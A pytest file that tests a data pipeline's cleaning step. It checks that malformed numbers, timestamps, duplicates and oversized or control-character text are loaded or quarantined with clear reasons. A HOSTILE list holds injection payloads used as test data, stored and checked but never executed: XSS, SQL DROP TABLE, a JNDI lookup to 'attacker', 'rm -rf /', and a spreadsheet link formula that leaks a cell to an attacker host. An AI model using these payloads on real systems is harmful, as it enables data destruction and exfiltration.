"""Bad values in raw rows, through the real step-4 cleaning SQL (issue 11).

Each case inserts text rows into raw.<source>_<entity> exactly as step 3 lands them (every
source column VARCHAR, plus the lineage columns) and runs `clean_range`. The expected outcome is
asserted per case: the row is loaded with the right value, or it is quarantined with its reason
and a detail naming the source column and the value. After every case the reconciliation holds
(raw rows = clean rows + quarantined rows): nothing is silently dropped.

The same faults arriving through real export files are in test_bad_input_files.py.
"""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Sequence
from dataclasses import dataclass

import duckdb
import pytest

from assets.step4_process.cleaning import clean_range, reconciliation
from assets.step4_process.entities import ENTITY_SPECS
from quality.schemas import CLEAN_TABLES, QUARANTINE, ddl
from resources.config_models import SourceConfig
from resources.settings import sources
from resources.sources.landing import ensure_raw_table, quote

DAY = dt.date(2026, 3, 2)
LOADED = dt.datetime(2026, 11, 1)
SALT = "a-salt-for-the-bad-input-tests"

HOSTILE = (
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE clean.incidents; --",
    "\" OR 1=1; ATTACH '/tmp/x.db' AS x; --",
    "{{ 7*7 }} ${jndi:ldap://attacker/x} $(rm -rf /)",
    "=HYPERLINK(\"http://attacker/?\"&A1,\"click\")",
    "back\\slash 'single' \"double\" `tick`",
)
"""Text people can type into a ticket that is code somewhere: HTML, JavaScript, SQL, template
and shell syntax, a spreadsheet formula, quotes of every kind."""

CONTROL = "bell\x07 nul\x00 esc\x1b[31m red cr\r lf\n tab\t del\x7f csi\x9b bidi\u202eevil zw\u200b"


def base(entity: str, key: str, **values: str) -> dict[str, str]:
    """A valid ServiceNow-shaped raw row of `entity` (the synthetic source's columns and
    vocabulary), with `values` overriding columns."""
    rows = {
        "incidents": {
            "number": key, "opened_at": "2026-03-02 09:00:00",
            "acknowledged_at": "2026-03-02 09:10:00", "resolved_at": "2026-03-02 11:00:00",
            "closed_at": "", "sys_updated_on": "2026-03-02 11:00:00",
            "priority": "3 - Moderate", "state": "Resolved", "business_service": "Email",
            "cmdb_ci": "mx-01", "assignment_group": "Messaging", "category": "software",
            "short_description": "mail is slow", "caller_id": "alice", "assigned_to": "bob",
            "contact_type": "email", "reassignment_count": "0", "reopen_count": "0",
            "hold_duration": "0", "problem_id": "", "caused_by": ""},
        "changes": {
            "number": key, "type": "Normal", "state": "Closed", "close_code": "Successful",
            "business_service": "Email", "cmdb_ci": "mx-01", "assignment_group": "Messaging",
            "short_description": "patch", "sys_created_on": "2026-03-01 08:00:00",
            "start_date": "2026-03-02 20:00:00", "end_date": "2026-03-02 21:00:00",
            "sys_updated_on": "2026-03-02 21:00:00"},
        "problems": {
            "number": key, "business_service": "Email", "cmdb_ci": "mx-01",
            "category": "software", "opened_at": "2026-03-02 09:00:00",
            "resolved_at": "2026-03-02 12:00:00", "state": "Resolved",
            "short_description": "root cause", "sys_updated_on": "2026-03-02 12:00:00"},
        "outages": {
            "outage_id": key, "service": "Email", "begin": "2026-03-02 09:00:00",
            "end": "2026-03-02 09:30:00", "type": "unplanned", "cmdb_ci": "mx-01",
            "description": "down", "sys_updated_on": "2026-03-02 09:30:00"},
        "surveys": {
            "response_id": key, "incident": "INC1", "business_service": "Email",
            "sent_at": "2026-03-02 11:00:00", "responded_at": "2026-03-02 12:00:00",
            "score": "4", "comment": "fine"},
    }[entity]
    return {**rows, **values}


@dataclass
class Outcome:
    """Where every raw row went: clean rows by key, quarantined rows as (key, reason, detail)."""

    con: duckdb.DuckDBPyConnection
    entity: str
    raw_rows: int

    def clean(self, key: str) -> dict[str, object]:
        id_column = ENTITY_SPECS[self.entity].key.name
        frame = self.con.execute(f"SELECT * FROM clean.{self.entity} WHERE {id_column} = ?",
                                 [key]).df()
        assert len(frame) == 1, f"{key!r} is not exactly once in clean.{self.entity}: {frame}"
        return frame.iloc[0].to_dict()

    def keys(self) -> list[str]:
        id_column = ENTITY_SPECS[self.entity].key.name
        return [r[0] for r in self.con.execute(
            f"SELECT {id_column} FROM clean.{self.entity} ORDER BY _row").fetchall()]

    def quarantined(self) -> list[tuple[str | None, str, str]]:
        return self.con.execute(
            f"SELECT source_key, reason_code, detail FROM clean.{self.entity}_quarantine "
            "ORDER BY _row").fetchall()

    def reason(self, key: str) -> tuple[str, str]:
        found = [(r, d) for k, r, d in self.quarantined() if k == key]
        assert len(found) == 1, f"{key!r} is not quarantined exactly once: {self.quarantined()}"
        return found[0]


@pytest.fixture(autouse=True)
def _salt(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SEVENSTEP_PSEUDONYM_SALT", SALT)


def synthetic(**changes: object) -> SourceConfig:
    """The shipped synthetic source (its mappings and pseudonymization), optionally changed."""
    source = sources().get("synthetic")
    return SourceConfig.model_validate({**source.model_dump(), **changes})


def run_clean(entity: str, rows: Sequence[dict[str, str]], source: SourceConfig | None = None,
              *, loaded_at: dt.datetime = LOADED) -> Outcome:
    """Land `rows` in raw as step 3 does, run step 4 on their day, and prove the day
    reconciles: every raw row is either clean or quarantined."""
    source = source or synthetic()
    spec = ENTITY_SPECS[entity]
    con = duckdb.connect()
    for schema in ("raw", "clean"):
        con.execute(f"CREATE SCHEMA {schema}")
    columns = list(dict.fromkeys(c for row in rows for c in row))
    table = source.raw_table(entity)
    ensure_raw_table(con, table, columns)
    names = ", ".join(quote(c) for c in [*columns, "_source", "_partition", "_row", "_loaded_at"])
    marks = ", ".join("?" for _ in range(len(columns) + 4))
    con.executemany(f"INSERT INTO raw.{quote(table)} ({names}) VALUES ({marks})", [
        [row.get(c) or None for c in columns] + [source.name, DAY, number, loaded_at]
        for number, row in enumerate(rows, start=1)])
    con.execute(ddl("clean", entity, CLEAN_TABLES[entity]))
    con.execute(ddl("clean", f"{entity}_quarantine", QUARANTINE))
    end = DAY + dt.timedelta(days=1)
    counts = clean_range(con, spec, [source], DAY, end)
    assert counts["clean"] + counts["quarantined"] == len(rows), counts
    assert reconciliation(con, entity, [source], DAY, end) == []
    return Outcome(con, entity, len(rows))


# ------------------------------------------------------------------ numbers of the wrong type


@pytest.mark.parametrize(("entity", "column", "value", "field", "expected"), [
    ("incidents", "reassignment_count", "1e3", "reassignment_count", 1000),
    ("incidents", "reassignment_count", " 7 ", "reassignment_count", 7),
    ("incidents", "reassignment_count", "2.0", "reassignment_count", 2),
    ("incidents", "hold_duration", "1.5e3", "on_hold_minutes", 25.0),
    ("incidents", "hold_duration", "", "on_hold_minutes", 0.0),  # empty: the field's default
    ("surveys", "score", "5", "score", 5),
])
def test_numbers_written_differently_are_loaded_with_their_value(
        entity: str, column: str, value: str, field: str, expected: float) -> None:
    outcome = run_clean(entity, [base(entity, "K1", **{column: value})])
    assert outcome.clean("K1")[field] == expected


@pytest.mark.parametrize(("entity", "column", "value", "why"), [
    ("incidents", "reassignment_count", "two", "is not a number"),
    ("incidents", "reassignment_count", "0x10", "is not a number"),
    ("incidents", "hold_duration", "1,5", "is not a number"),  # decimal comma not configured
    ("incidents", "hold_duration", "10 min", "is not a number"),
    ("surveys", "score", "five", "is not a number"),
    # A count with a fraction or beyond BIGINT is a number of the wrong type: it must not be
    # rounded or replaced by the default 0.
    ("incidents", "reassignment_count", "2.5", "is not a whole number"),
    ("incidents", "reopen_count", "99999999999999999999999", "is not a whole number"),
    ("surveys", "score", "4.5", "is not a whole number"),
])
def test_numbers_of_the_wrong_type_are_quarantined_naming_column_and_value(
        entity: str, column: str, value: str, why: str) -> None:
    outcome = run_clean(entity, [base(entity, "K1", **{column: value}), base(entity, "K2")])
    reason, detail = outcome.reason("K1")
    assert reason == "UNPARSEABLE_NUMBER"
    assert detail == f"{column} {json.dumps(value.strip())} {why}"
    assert outcome.keys() == ["K2"]


# ------------------------------------------------------------------------ dates and timestamps


@pytest.mark.parametrize("value", [
    "yesterday", "2026-02-30 10:00:00", "2026-03-02", "2026-03-02T09:00:00",
    "2026-03-02T09:00:00Z", "2026-03-02 09:00:00+02:00", "2026-03-02 09:00:00.250",
    "03/02/2026 09:00", "2 March 2026 9:00", "1772442000",
])
def test_timestamps_in_another_format_are_quarantined_not_guessed(value: str) -> None:
    outcome = run_clean("incidents", [base("incidents", "K1", opened_at=value)])
    assert outcome.reason("K1") == (
        "UNPARSEABLE_TIMESTAMP",
        f"opened_at {json.dumps(value)} is not a timestamp in the format %Y-%m-%d %H:%M:%S")


def test_a_missing_required_timestamp_is_named() -> None:
    outcome = run_clean("incidents", [base("incidents", "K1", opened_at="  ")])
    assert outcome.reason("K1") == ("MISSING_REQUIRED", "required field opened_at is empty")


def test_the_source_format_and_timezone_decide_how_text_is_read() -> None:
    """Day-first dates in Amsterdam winter time: 02/03 is 2 March, 09:00 local is 08:00 UTC."""
    source = synthetic(timezone="Europe/Amsterdam", timestamp_format="%d/%m/%Y %H:%M")
    row = base("incidents", "K1", opened_at="02/03/2026 09:00", acknowledged_at="",
               resolved_at="02/03/2026 10:30", sys_updated_on="02/03/2026 10:30")
    clean = run_clean("incidents", [row], source).clean("K1")
    assert clean["opened_at"] == dt.datetime(2026, 3, 2, 8, 0)
    assert clean["minutes_to_resolve"] == 90.0


@pytest.mark.parametrize(("zone", "opened", "resolved", "opened_utc", "minutes"), [
    # Amsterdam springs forward at 02:00 on 29 March 2026: 01:30 CET to 03:30 CEST is one hour.
    ("Europe/Amsterdam", "2026-03-29 01:30:00", "2026-03-29 03:30:00",
     dt.datetime(2026, 3, 29, 0, 30), 60.0),
    # ... and falls back at 03:00 on 25 October: 01:30 CEST to 03:30 CET is three hours.
    ("Europe/Amsterdam", "2026-10-25 01:30:00", "2026-10-25 03:30:00",
     dt.datetime(2026, 10, 24, 23, 30), 180.0),
    # New York springs forward on 8 March 2026 at 02:00.
    ("America/New_York", "2026-03-08 01:00:00", "2026-03-08 04:00:00",
     dt.datetime(2026, 3, 8, 6, 0), 120.0),
    # A half-hour offset without daylight saving.
    ("Asia/Kolkata", "2026-03-02 05:30:00", "2026-03-02 06:00:00",
     dt.datetime(2026, 3, 2, 0, 0), 30.0),
])
def test_durations_across_daylight_saving_changes_are_real_elapsed_time(
        zone: str, opened: str, resolved: str, opened_utc: dt.datetime, minutes: float) -> None:
    row = base("incidents", "K1", opened_at=opened, acknowledged_at="", resolved_at=resolved,
               sys_updated_on=resolved)
    clean = run_clean("incidents", [row], synthetic(timezone=zone)).clean("K1")
    assert clean["opened_at"] == opened_utc
    assert clean["minutes_to_resolve"] == minutes


def test_wall_clock_times_that_do_not_exist_or_occur_twice_are_loaded_consistently() -> None:
    """02:30 does not exist in Amsterdam on 29 March and occurs twice on 25 October. Both are
    loaded (no row is lost to a clock change) at one of the instants a person could mean."""
    rows = [base("incidents", "GAP", opened_at="2026-03-29 02:30:00", acknowledged_at="",
                 resolved_at="2026-03-29 04:00:00", sys_updated_on="2026-03-29 04:00:00"),
            base("incidents", "TWICE", opened_at="2026-10-25 02:30:00", acknowledged_at="",
                 resolved_at="2026-10-25 04:00:00", sys_updated_on="2026-10-25 04:00:00")]
    outcome = run_clean("incidents", rows, synthetic(timezone="Europe/Amsterdam"))
    gap, twice = outcome.clean("GAP"), outcome.clean("TWICE")
    assert gap["opened_at"] in (dt.datetime(2026, 3, 29, 0, 30), dt.datetime(2026, 3, 29, 1, 30))
    assert twice["opened_at"] in (dt.datetime(2026, 10, 25, 0, 30),
                                  dt.datetime(2026, 10, 25, 1, 30))
    assert gap["minutes_to_resolve"] >= 0 and twice["minutes_to_resolve"] >= 0


@pytest.mark.parametrize(("entity", "column", "value", "reason"), [
    ("incidents", "resolved_at", "2099-01-01 00:00:00", "FUTURE_TIMESTAMP"),
    ("incidents", "opened_at", "9999-12-31 23:59:59", "FUTURE_TIMESTAMP"),
    ("surveys", "responded_at", "2026-11-01 00:00:01", "FUTURE_TIMESTAMP"),  # 1 s after load
    ("incidents", "opened_at", "1989-12-31 23:59:59", "IMPLAUSIBLE_TIMESTAMP"),
    ("incidents", "opened_at", "0001-01-01 00:00:00", "IMPLAUSIBLE_TIMESTAMP"),
    ("outages", "begin", "1970-01-01 00:00:00", "IMPLAUSIBLE_TIMESTAMP"),
])
def test_dates_in_the_future_or_before_1990_are_quarantined(
        entity: str, column: str, value: str, reason: str) -> None:
    outcome = run_clean(entity, [base(entity, "K1", **{column: value})])
    code, detail = outcome.reason("K1")
    assert code == reason
    assert detail.startswith(f"{column} ")


def test_boundaries_and_planned_future_times_are_loaded() -> None:
    """1990-01-01 00:00 is not before 1990; a change planned for next year may lie ahead."""
    outcome = run_clean("incidents", [base(
        "incidents", "OLD", opened_at="1990-01-01 00:00:00", acknowledged_at="",
        resolved_at="2026-11-01 00:00:00", sys_updated_on="2026-11-01 00:00:00")])
    assert outcome.clean("OLD")["opened_at"] == dt.datetime(1990, 1, 1)
    planned = run_clean("changes", [base("changes", "CHG1", start_date="2027-06-01 20:00:00",
                                         end_date="2027-06-01 22:00:00", state="Scheduled")])
    assert planned.clean("CHG1")["start_at"] == dt.datetime(2027, 6, 1, 20)


@pytest.mark.parametrize(("entity", "values", "reason", "detail"), [
    ("incidents", {"resolved_at": "2026-03-02 08:59:59"}, "RESOLVED_BEFORE_OPENED",
     "resolved_at 2026-03-02 08:59:59 is before opened_at 2026-03-02 09:00:00"),
    ("incidents", {"acknowledged_at": "2026-03-01 09:10:00"}, "ACKNOWLEDGED_BEFORE_OPENED",
     "acknowledged_at 2026-03-01 09:10:00 is before opened_at 2026-03-02 09:00:00"),
    ("incidents", {"closed_at": "2026-03-02 10:00:00"}, "CLOSED_BEFORE_RESOLVED",
     "closed_at 2026-03-02 10:00:00 is before resolved_at 2026-03-02 11:00:00"),
    ("problems", {"resolved_at": "2026-03-01 00:00:00"}, "RESOLVED_BEFORE_OPENED",
     "resolved_at 2026-03-01 00:00:00 is before opened_at 2026-03-02 09:00:00"),
    ("changes", {"end_date": "2026-03-02 19:00:00"}, "END_BEFORE_START",
     "end_at 2026-03-02 19:00:00 is before start_at 2026-03-02 20:00:00"),
    ("outages", {"end": "2026-03-02 08:00:00"}, "END_BEFORE_START",
     "end_at 2026-03-02 08:00:00 is before start_at 2026-03-02 09:00:00"),
    ("surveys", {"responded_at": "2026-03-02 10:59:00"}, "RESPONDED_BEFORE_SENT",
     "responded_at 2026-03-02 10:59:00 is before sent_at 2026-03-02 11:00:00"),
])
def test_times_in_the_wrong_order_are_quarantined(
        entity: str, values: dict[str, str], reason: str, detail: str) -> None:
    outcome = run_clean(entity, [base(entity, "K1", **values), base(entity, "K2")])
    assert outcome.reason("K1") == (reason, detail)
    assert outcome.keys() == ["K2"]


# ---------------------------------------------------------------------------------- durations


@pytest.mark.parametrize(("column", "value", "shown"), [
    ("hold_duration", "-600", "-10.0"),   # seconds on hold -> minutes
    ("hold_duration", "1e15", "16666666666666.666"),
    ("hold_duration", "NaN", "nan"),
    ("hold_duration", "Infinity", "inf"),
    ("hold_duration", "-inf", "-inf"),
    ("reassignment_count", "-1", "-1"),
])
def test_negative_and_absurd_durations_and_counts_are_quarantined(
        column: str, value: str, shown: str) -> None:
    outcome = run_clean("incidents", [base("incidents", "K1", **{column: value})])
    reason, detail = outcome.reason("K1")
    assert reason == "INVALID_VALUE"
    assert detail.startswith(f"{column} {shown} is outside ")


def test_a_ticket_open_for_decades_is_loaded_with_its_true_duration() -> None:
    """Long is not wrong: a 1995 ticket closed today keeps its real age (KPIs see it)."""
    outcome = run_clean("incidents", [base(
        "incidents", "K1", opened_at="1995-01-01 00:00:00", acknowledged_at="",
        resolved_at="2026-01-01 00:00:00", sys_updated_on="2026-01-01 00:00:00")])
    minutes = (dt.datetime(2026, 1, 1) - dt.datetime(1995, 1, 1)).total_seconds() / 60
    assert outcome.clean("K1")["minutes_to_resolve"] == minutes


# --------------------------------------------------------------------------------- duplicates


def test_duplicate_keys_with_conflicting_content_keep_the_newest_version() -> None:
    rows = [
        base("incidents", "A", short_description="first", sys_updated_on="2026-03-02 12:00:00"),
        base("incidents", "A", short_description="second", sys_updated_on="2026-03-02 12:00:00"),
        base("incidents", "B", short_description="newer", sys_updated_on="2026-03-02 15:00:00"),
        base("incidents", "B", short_description="older", sys_updated_on="2026-03-02 13:00:00"),
        base("incidents", " C ", short_description="padded"),
        base("incidents", "C", short_description="plain", sys_updated_on="2026-03-02 16:00:00"),
        base("incidents", "D"),
        base("incidents", "D"),
    ]
    outcome = run_clean("incidents", rows)
    assert outcome.clean("A")["short_description"] == "second"  # same update: the later line
    assert outcome.clean("B")["short_description"] == "newer"  # the newer update, not the line
    assert outcome.clean("C")["short_description"] == "plain"  # keys are trimmed
    assert {k: r for k, r, _ in outcome.quarantined()} == {
        "A": "DUPLICATE_SUPERSEDED", "B": "DUPLICATE_SUPERSEDED", "C": "DUPLICATE_SUPERSEDED",
        "D": "DUPLICATE_EXACT"}
    details = {k: d for k, _, d in outcome.quarantined()}
    assert details["A"] == "older version of incident_id A; row 2 of 2026-03-02 is newer and " \
                           "was kept"
    assert details["D"] == "identical to row 8 of 2026-03-02, which was kept"


# ------------------------------------------------------------------------ text of every kind


def test_a_10_mb_text_field_is_kept_whole_in_clean_and_in_the_quarantine() -> None:
    huge = "0123456789" * (1024 * 1024)  # 10 MiB
    rows = [base("incidents", "BIG", short_description=huge),
            base("incidents", "BIGBAD", short_description=huge, priority="P9")]
    outcome = run_clean("incidents", rows)
    assert outcome.clean("BIG")["short_description"] == huge
    raw = outcome.con.execute("SELECT raw_row FROM clean.incidents_quarantine").fetchall()[0][0]
    assert json.loads(raw)["short_description"] == huge


def test_control_characters_are_kept_as_data_and_escaped_in_details() -> None:
    rows = [base("incidents", "K1", short_description=CONTROL, cmdb_ci=CONTROL),
            base("incidents", "K\x1b[2J2"),
            base("incidents", "K3", priority="3 - Moderate\x00\x1b[31m")]
    outcome = run_clean("incidents", rows)
    assert outcome.clean("K1")["short_description"] == CONTROL
    assert outcome.clean("K1")["ci"] == CONTROL
    assert outcome.clean("K\x1b[2J2")["priority"] == 3
    reason, detail = outcome.reason("K3")
    assert reason == "UNKNOWN_CODE"
    assert not any(c in detail for c in "\x00\x1b")  # JSON-escaped: safe on a terminal
    quoted, rest = detail.removeprefix("priority ").split(" is not in mapping ")
    assert json.loads(quoted) == "3 - Moderate\x00\x1b[31m"
    assert rest == "incident_priority of source synthetic (config/sources.yaml)"


@pytest.mark.parametrize("payload", HOSTILE)
def test_text_holding_html_javascript_or_sql_is_stored_as_data(payload: str) -> None:
    rows = [base("incidents", "K1", short_description=payload, business_service=payload,
                 assignment_group=payload, category=payload),
            base("incidents", payload),
            base("incidents", "K2", state=payload)]
    outcome = run_clean("incidents", rows)
    kept = outcome.clean("K1")
    assert (kept["short_description"], kept["service"], kept["assignment_group"],
            kept["category"]) == (payload,) * 4
    assert outcome.clean(payload)["incident_id"] == payload
    reason, detail = outcome.reason("K2")
    assert reason == "UNKNOWN_CODE" and json.dumps(payload) in detail
    tables = {r[0] for r in outcome.con.execute(
        "SELECT table_schema || '.' || table_name FROM information_schema.tables").fetchall()}
    assert {"clean.incidents", "clean.incidents_quarantine", "raw.synthetic_incidents"} <= tables


def test_hostile_column_names_in_a_source_are_data_too() -> None:
    """Export headers are source data: a column named like SQL is kept, never executed."""
    evil = 'x"); DROP TABLE clean.incidents; --'
    outcome = run_clean("incidents", [base("incidents", "K1", **{evil: "v"}),
                                      base("incidents", "K1", **{evil: "w"})])
    assert outcome.clean("K1")["incident_id"] == "K1"
    raw = outcome.con.execute("SELECT raw_row FROM clean.incidents_quarantine").fetchall()[0][0]
    assert json.loads(raw)[evil] == "v"
    assert outcome.quarantined()[0][1] == "DUPLICATE_SUPERSEDED"  # content differs: a version
